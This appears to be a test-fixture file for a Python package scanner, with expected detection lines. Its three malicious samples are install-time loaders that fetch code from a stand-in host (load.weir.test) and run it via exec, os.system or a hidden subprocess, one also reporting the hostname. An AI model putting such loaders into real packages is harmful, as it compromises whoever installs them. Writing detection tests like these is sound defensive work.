import type { Sample, Samples } from '../contract.ts';
import { quiet, sdist, wheel } from '../samples-kit.ts';

function at(file: string, line: number): Sample['expected'] {
  return [{ rule: 'python', file, line, severity: 'low' }];
}

export const samples: Samples = {
  malicious: [
    {
      name: 'a script that fetches, decodes and runs while the package is installed',
      files: sdist(
        "import os\nimport base64\nimport requests\nfrom setuptools import setup\nprint('wait')\nexec(base64.b64decode(requests.get('https://load.weir.test/a').text))\nsetup(name='own', version='1.0')",
      ),
      expected: at('setup.py', 6),
    },
    {
      name: 'a module that tells a server where it is and runs what it answers',
      files: wheel(
        "import os, socket, requests\ndef go():\n    try:\n        r = requests.get('https://load.weir.test/?h=' + socket.gethostname())\n        open('/tmp/own', 'w').write(r.text)\n        os.system('sh /tmp/own')\n    except:\n        pass\ngo()",
      ),
      expected: at('own/__init__.py', 4),
    },
    {
      name: 'the code is in the module beside, not in the first file',
      files: {
        ...wheel('"""Own."""\nfrom . import more\n\n__version__ = \'1.0\'\n'),
        'own/more.py':
          "import base64, os, subprocess, requests\nr = requests.get('https://load.weir.test/b')\nsubprocess.Popen(['sh', '-c', base64.b64decode(r.text)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nprint('ok')",
      },
      expected: at('own/more.py', 2),
    },
  ],
  benign: [
    quiet('an empty module', wheel('')),
    quiet(
      'a client with care',
      wheel(
        '"""A client of the service."""\nimport logging\nfrom typing import Any\n\nimport requests\n\nlogger = logging.getLogger(__name__)\n\n\nclass Client:\n    """Asks the service."""\n\n    def __init__(self, base: str) -> None:\n        """Keeps the address."""\n        super().__init__()\n        self.base = base\n\n    def get(self, path: str) -> Any:\n        """Returns what the service says of a path."""\n        answer = requests.get(self.base + path, timeout=10)\n        # What is not there is an error of the caller.\n        if answer.status_code == 404:\n            raise KeyError(path)\n        return answer.json()\n',
      ),
    ),
    quiet(
      'a setup script that reads its version',
      sdist(
        '# Builds the package.\nimport os\nimport re\n\nfrom setuptools import find_packages, setup\n\n\ndef version():\n    """The version in the package."""\n    with open(os.path.join(\'own\', \'__init__.py\')) as file:\n        return re.search(r"\'(.*)\'", file.read()).group(1)\n\n\nsetup(name=\'own\', version=version(), packages=find_packages())\n',
        { 'own/__init__.py': "__version__ = '1.0'\n" },
      ),
    ),
    quiet(
      'a command line tool',
      wheel(
        '"""Prints sums."""\nimport argparse\nimport sys\n\n\ndef main() -> int:\n    """Adds what is given."""\n    parser = argparse.ArgumentParser()\n    parser.add_argument(\'numbers\', nargs=\'*\', type=int)\n    print(sum(parser.parse_args().numbers))\n    return 0\n\n\nif __name__ == \'__main__\':\n    sys.exit(main())\n',
      ),
    ),
  ],
};
